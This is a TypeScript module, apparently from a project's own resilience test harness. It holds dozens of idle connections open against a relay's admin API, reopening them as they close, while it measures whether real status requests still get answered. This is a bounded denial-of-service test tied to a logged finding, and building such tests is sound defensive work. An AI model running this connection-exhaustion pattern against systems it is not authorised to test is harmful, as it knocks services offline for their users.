// Idle connections to the relay's admin API (connected, never a byte), topped up as the relay
// closes them, while the attacker also tries one real status request every REQUEST_EVERY_MS and
// counts how many are answered (issue 22, the admin API finding: 32 idle connections blocked it).
// Bounded at IDLE_AT_ONCE sockets held and MAX_OPENS connections in all.
import { connect, type Socket } from 'node:net'
import { request } from 'node:http'
import type { Attack } from './attack.js'

const IDLE_AT_ONCE = 64
const MAX_OPENS = 100_000
const REQUEST_EVERY_MS = 250
const REQUEST_TIMEOUT_MS = 2_000

export const adminIdle: Attack = {
  name: 'admin-idle',
  what: `${IDLE_AT_ONCE} idle connections to the admin API, topped up, while real status requests are tried`,
  run: async (target, signal) => {
    const held = new Set<Socket>()
    let opens = 0
    let closedByRelay = 0
    const open = (): void => {
      if (signal.aborted || opens >= MAX_OPENS) return
      opens++
      const s = connect({ host: target.host, port: target.adminPort })
      s.on('error', () => {})
      held.add(s)
      s.once('close', () => {
        held.delete(s)
        if (signal.aborted) return
        closedByRelay++
        setTimeout(open, 10).unref()
      })
    }
    for (let i = 0; i < IDLE_AT_ONCE; i++) open()
    let tried = 0
    let answered = 0
    while (!signal.aborted) {
      await new Promise((resolve) => setTimeout(resolve, REQUEST_EVERY_MS))
      if (signal.aborted) break
      tried++
      if (await statusOnNewConnection(target.host, target.adminPort, target.adminToken)) answered++
    }
    for (const s of held) s.destroy()
    return { sent: opens, unit: 'idle connections', note: `real requests answered ${answered} of ${tried}; ${closedByRelay} idle ones closed by the relay` }
  },
}

/** GET /api/status on a connection of its own (as a new `tunnel status` process would open). */
async function statusOnNewConnection (host: string, port: number, token: string): Promise<boolean> {
  return await new Promise<boolean>((resolve) => {
    const req = request({ host, port, path: '/api/status', agent: false, headers: { authorization: `Bearer ${token}` }, timeout: REQUEST_TIMEOUT_MS }, (res) => {
      res.resume()
      res.once('end', () => { resolve(res.statusCode === 200) })
      res.once('error', () => { resolve(false) })
    })
    req.once('timeout', () => { req.destroy() })
    req.once('error', () => { resolve(false) })
    req.end()
  })
}
